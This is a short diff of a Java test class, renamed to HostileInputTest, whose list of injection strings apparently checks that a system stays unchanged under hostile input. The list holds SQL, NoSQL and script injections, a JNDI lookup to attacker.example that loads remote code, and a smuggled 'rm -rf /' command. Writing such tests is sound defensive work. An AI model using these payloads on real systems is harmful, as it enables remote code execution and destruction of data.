@@ -35,7 +35,7 @@ import tools.jackson.databind.node.ObjectNode;
  * system's stored documents and topics must be exactly as before.
  */
 @AddLifecycleHook(NeedsServiceJars.class)
-class HostileInputProperties {
+class HostileInputTest {
 
     private static final List<String> INJECTIONS = List.of("' OR '1'='1", "{\"$gt\":\"\"}", "<script>alert(1)</script>",
             "${jndi:ldap://attacker.example/a}", "a b", "x;rm -rf /", "%00", "\u0000", "ユニコード", "",
